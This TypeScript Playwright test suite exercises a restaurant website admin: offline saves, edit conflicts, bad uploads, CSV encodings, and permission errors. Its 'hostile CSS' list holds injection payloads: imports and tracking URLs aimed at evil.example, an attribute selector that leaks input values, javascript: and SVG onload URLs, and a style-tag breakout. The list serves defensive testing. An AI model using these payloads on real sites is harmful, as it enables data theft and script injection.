/** What goes wrong while an owner works: a broken line, files of every kind, hostile CSS, two people at once, a page not theirs. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import type { Browser, Page } from 'playwright-core';
import { signInToAdmin } from '../support/admin.ts';
import { untilAwake } from '../support/awake.ts';
import { axeFindings, openBrowser, visit } from '../support/browser.ts';
import { png } from '../support/png.ts';
import { type RunningServer, runServer } from '../support/run-server.ts';
import { until } from '../support/until.ts';

const MINUTES = 180_000;
const RESTAURANT = '/restaurants/roma-pizza';
const SHOP = `${RESTAURANT}/stores/roma-newtown`;
const LOST = 'Not saved: no connection.';

let server: RunningServer;
let browser: Browser;
beforeAll(async () => {
  server = await runServer({ isPlanted: true });
  browser = await openBrowser();
}, MINUTES);
afterAll(async () => {
  await browser?.close();
  await server?.[Symbol.asyncDispose]();
});

async function openAdmin(path: string) {
  const seen = await visit(browser, 'desktop');
  await signInToAdmin(seen.page, server.url);
  await seen.page.goto(`${server.url}/admin${path}`);
  return seen;
}

/** A form that answers without a new page. Before its script is awake, a press sends it as any browser does. */
async function openForm(path: string) {
  const seen = await openAdmin(path);
  await untilAwake(seen.page, 'admin/edit-form');
  return seen;
}

const save = (page: Page) => page.getByRole('button', { name: 'Save', exact: true }).last().click();
const headline = (page: Page) => page.locator('[name="headline"]');

describe('settings', () => {
  const PAGE = `${RESTAURANT}/website/info`;
  const SAVED = 'Saved. Updated on your stores’ websites.';

  test(
    'what was typed or chosen before the page’s script came counts as unsaved once it is there, and nothing else does',
    async () => {
      const { page, context } = await openForm(`${RESTAURANT}/website-theme`);
      expect(await page.title()).not.toStartWith('• ');
      for (const change of [
        (tab: Page) => tab.getByLabel('Font').selectOption('lora'),
        (tab: Page) => tab.getByLabel('Note').fill('Spring'),
      ]) {
        const tab = await context.newPage();
        const script = Promise.withResolvers<void>();
        await tab.route('**/*.js', async (route) => {
          await script.promise;
          await route.continue();
        });
        await tab.goto(page.url(), { waitUntil: 'commit' });
        await change(tab);
        script.resolve();
        await until('it counts as unsaved', async () => (await tab.title()).startsWith('• '));
        await tab.close();
      }
      await context.close();
    },
    MINUTES,
  );

  test(
    'without a line nothing that was typed is lost, the same press saves later, and Back shows what is stored',
    async () => {
      const { page, context } = await openForm(PAGE);
      await headline(page).fill('Wood fired since 1974');
      await page.locator('[name="story"]').fill('Two brothers and an oven.');
      await context.setOffline(true);
      await save(page);
      await page.getByText(LOST).first().waitFor();
      expect(await headline(page).inputValue()).toBe('Wood fired since 1974');
      await context.setOffline(false);
      await save(page);
      await page.getByText(SAVED).waitFor();
      await page.goto(`${server.url}/admin${SHOP}/menu`);
      await page.goBack();
      expect(await headline(page).inputValue()).toBe('Wood fired since 1974');
      expect(await page.locator('[name="story"]').inputValue()).toBe('Two brothers and an oven.');
      await context.close();
    },
    MINUTES,
  );

  test(
    'an answer that never came is no second save: the form is saved once more without a question',
    async () => {
      const { page, context } = await openForm(PAGE);
      await headline(page).fill('Best margherita in Newtown');
      await page.route(`**${PAGE}`, async (route) => {
        if (route.request().method() !== 'POST') return route.fallback();
        await route.fetch({ maxRedirects: 0 });
        await route.abort('connectionreset');
      });
      await save(page);
      await page.getByText(LOST).first().waitFor();
      await page.unroute(`**${PAGE}`);
      await save(page);
      await page.getByText(SAVED).waitFor();
      expect(await headline(page).inputValue()).toBe('Best margherita in Newtown');
      await context.close();
    },
    MINUTES,
  );

  test(
    'of two editors the second sees both versions of the field that both changed, and keeps the rest of both',
    async () => {
      const first = await openForm(PAGE);
      const second = await openForm(PAGE);
      await headline(first.page).fill('First oven in town');
      await first.page.locator('[name="searchTitle"]').fill('Roma Pizza, Newtown');
      await save(first.page);
      await first.page.getByText(SAVED).waitFor();
      await headline(second.page).fill('The oven never rests');
      await second.page.locator('[name="story"]').fill('Since 1974.');
      await save(second.page);
      const choice = second.page.getByRole('group', { name: 'Headline' });
      await choice.getByText('First oven in town').waitFor();
      expect(await headline(second.page).inputValue()).toBe('The oven never rests');
      await second.page
        .getByText(/changed “Headline”/)
        .first()
        .waitFor();
      expect(await axeFindings(second.page)).toEqual([]);
      await choice.getByRole('radio', { name: /^Keep theirs/ }).check();
      await save(second.page);
      await second.page.getByText(SAVED).waitFor();
      expect(await headline(second.page).inputValue()).toBe('First oven in town');
      expect(await second.page.locator('[name="story"]').inputValue()).toBe('Since 1974.');
      expect(await second.page.locator('[name="searchTitle"]').inputValue()).toBe('Roma Pizza, Newtown');
      await first.context.close();
      await second.context.close();
    },
    MINUTES,
  );

  test(
    'a picture of 40 MB and a broken one are told beside their list, and what was typed and chosen stays',
    async () => {
      const { page, context } = await openForm(PAGE);
      const file = page.locator('[name="gallery.file"]');
      await headline(page).fill('Still here');
      await file.setInputFiles({ name: 'oven.png', mimeType: 'image/png', buffer: Buffer.from(png(400, 300)) });
      await page.getByLabel('Description of picture 1').fill('Our oven');
      await file.setInputFiles({ name: 'huge.jpg', mimeType: 'image/jpeg', buffer: Buffer.alloc(40 * 1024 * 1024, 7) });
      await page.getByText('huge.jpg is 40 MB. Choose a picture up to 10 MB.').first().waitFor();
      const broken = Buffer.from(png(400, 300)).subarray(0, 300);
      await file.setInputFiles({ name: 'half.png', mimeType: 'image/png', buffer: broken });
      await page
        .locator('[data-part="field"] [id$="gallery-error"]')
        .getByText(/Choose|read/)
        .waitFor();
      expect(await headline(page).inputValue()).toBe('Still here');
      expect(await page.getByLabel('Description of picture 1').inputValue()).toBe('Our oven');
      expect(await axeFindings(page)).toEqual([]);
      await save(page);
      await page.getByText(SAVED).waitFor();
      const guest = await visit(browser, 'phone');
      await guest.page.goto(server.url + SHOP);
      await guest.page.getByRole('img', { name: 'Our oven' }).scrollIntoViewIfNeeded();
      expect(guest.problems).toEqual([]);
      await guest.context.close();
      await context.close();
    },
    MINUTES,
  );
});

test(
  'a page that is being written outlives a lost line: its preview says so, nothing is lost, the same press saves later',
  async () => {
    const { page, context } = await openForm(`${SHOP}/website/custom-pages/new`);
    await page.locator('.ProseMirror').waitFor();
    await context.setOffline(true);
    await page.getByLabel('Title', { exact: true }).fill('Our garden');
    await page.locator('.ProseMirror').click();
    await page.keyboard.type('Forty seats under the vines.');
    await page.getByText('The preview can’t be loaded.').waitFor();
    await page.getByRole('button', { name: 'Save draft' }).click();
    await page.getByText(LOST).first().waitFor();
    await context.setOffline(false);
    await page.getByRole('button', { name: 'Try again' }).click();
    const site = page.frameLocator('iframe:not([aria-hidden="true"])[title^="Your website"]');
    await site.getByText('Forty seats under the vines.').waitFor();
    await page.getByRole('button', { name: 'Save draft' }).click();
    await page.getByText('Draft saved. Customers don’t see it yet.').first().waitFor();
    expect(await page.getByLabel('Title', { exact: true }).inputValue()).toBe('Our garden');
    await context.close();
  },
  MINUTES,
);

describe('a menu of 10,000 rows', () => {
  const rows = (name: string) => [
    'Category,Name,Price',
    ...Array.from({ length: 10_000 }, (_, at) => `Café ${at % 40},${name} ${at},${(at % 90) + 1}.50`),
  ];
  const latin = (text: string) => Buffer.from(text, 'latin1');
  const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  const broken = (text: string) => {
    const bytes = Buffer.from(text, 'utf8');
    // Half a letter in the middle: no longer UTF-8, and no one knows what it was.
    return Buffer.concat([bytes.subarray(0, 5_000), Buffer.from([0xc3]), bytes.subarray(5_000)]);
  };

  test.each([
    ['Windows-1252', latin, 'Crème'],
    ['Windows-1252 with semicolons', (text: string) => latin(text.replaceAll(',', ';')), 'Crème'],
    ['UTF-16', utf16, 'Crème'],
    ['broken UTF-8', broken, ''],
  ])(
    'in %s is read with its letters or refused in words, and nothing is half imported',
    async (_, encoded, letters) => {
      const { page, context } = await openAdmin(`${SHOP}/menu/import`);
      const buffer = encoded(rows('Crème').join('\r\n'));
      await page.getByLabel('CSV file').setInputFiles({ name: 'menu.csv', mimeType: 'text/csv', buffer });
      await page.getByRole('button', { name: 'Continue' }).click();
      const main = page.getByRole('main');
      await main
        .getByText(/10,000|can’t be read/)
        .first()
        .waitFor();
      if (letters) {
        await main.getByText(letters, { exact: false }).first().waitFor();
        expect(await main.textContent()).not.toContain('\uFFFD');
      }
      const site = await (await fetch(`${server.url + SHOP}`)).text();
      expect(site).not.toContain('Café 1');
      await context.close();
    },
    MINUTES,
  );
});

describe('hostile CSS', () => {
  const HOSTILE = [
    '@import "https://evil.example/x.css";',
    'body{background:url(https://evil.example/pixel.gif)}',
    'a{background:url("javascript:alert(1)")}',
    'a{background:url("data:image/svg+xml,<svg onload=alert(1)>")}',
    'main{position:fixed;inset:0;z-index:9999}',
    'a{width:expression(alert(1))}',
    'a{behavior:url(x.htc)}',
    'h1{color:red}</style><script>window.hit=1</script>',
    '@font-face{font-family:x;src:url(https://evil.example/f.woff)}',
    'input[value^="4"]{background:url(https://evil.example/4)}',
    'a{-moz-binding:url(https://evil.example/x.xml)}',
  ];

  test(
    'is refused at its line and published nowhere',
    async () => {
      const { page, context } = await openAdmin(`${RESTAURANT}/website-theme`);
      for (const css of HOSTILE) {
        await page.goto(`${server.url}/admin${RESTAURANT}/website-theme`);
        await page.locator('#f-css').scrollIntoViewIfNeeded();
        await page.locator('.cm-content').click();
        await page.keyboard.insertText(css);
        await page.getByRole('button', { name: 'Publish', exact: true }).click();
        await page.locator('#f-css-error').waitFor();
        expect(await page.locator('#f-css').inputValue()).toContain(css);
      }
      const site = await (await fetch(server.url + SHOP)).text();
      expect(site).not.toContain('data-part="tenant"');
      await context.close();
    },
    MINUTES,
  );

  test(
    'that had got past the editor reaches nobody: it loads nothing, runs nothing and is on no page where people pay',
    async () => {
      const asked: string[] = [];
      await using elsewhere = Bun.serve({
        port: 0,
        fetch(request) {
          asked.push(request.url);
          return new Response('h1{color:red}', {
            headers: { 'content-type': 'text/css', 'access-control-allow-origin': '*' },
          });
        },
      });
      const origin = `http://127.0.0.1:${elsewhere.port}`;
      const css = HOSTILE.join('\n').replaceAll('https://evil.example', origin);
      const guest = await visit(browser, 'phone');
      await guest.page.goto(server.url + SHOP);
      await guest.page.evaluate(
        ([styles = '', from = '']) => {
          const style = document.createElement('style');
          style.textContent = styles;
          const script = document.createElement('script');
          script.textContent = 'window.hit = 1';
          document.head.append(style, script);
          const picture = `<img id="trap" src="${from}/x" onerror="window.hit = 2"><svg onload="window.hit = 3"></svg>`;
          document.body.insertAdjacentHTML('beforeend', picture);
        },
        [css, origin],
      );
      await guest.page.waitForFunction(() => document.querySelector<HTMLImageElement>('#trap')?.complete);
      expect(await guest.page.evaluate(() => 'hit' in window)).toBe(false);
      expect(await guest.page.locator('main').evaluate((one) => getComputedStyle(one).position)).not.toBe('fixed');
      expect(asked).toEqual([]);
      for (const path of ['/cart', '/checkout', '/login']) {
        const html = await (await fetch(`${server.url}${SHOP}${path}`)).text();
        expect(html).not.toContain('data-part="tenant"');
      }
      await guest.context.close();
    },
    MINUTES,
  );
});

test(
  'a page that is not theirs keeps the menu around it, names the permission and says who can give it',
  async () => {
    const { page, context } = await visit(browser, 'desktop');
    await signInToAdmin(page, server.url, 'staff.newtown@roma-pizza.example');
    const answer = await page.goto(`${server.url}/admin${SHOP}/settings/tax`);
    expect(answer?.status()).toBe(403);
    await page.getByText('You need permission to change store settings.').waitFor();
    await page.getByText(/can make you an Admin User of /).waitFor();
    await page.getByRole('link', { name: 'Orders', exact: true }).first().waitFor();
    expect(await axeFindings(page)).toEqual([]);
    await context.close();
  },
  MINUTES,
);
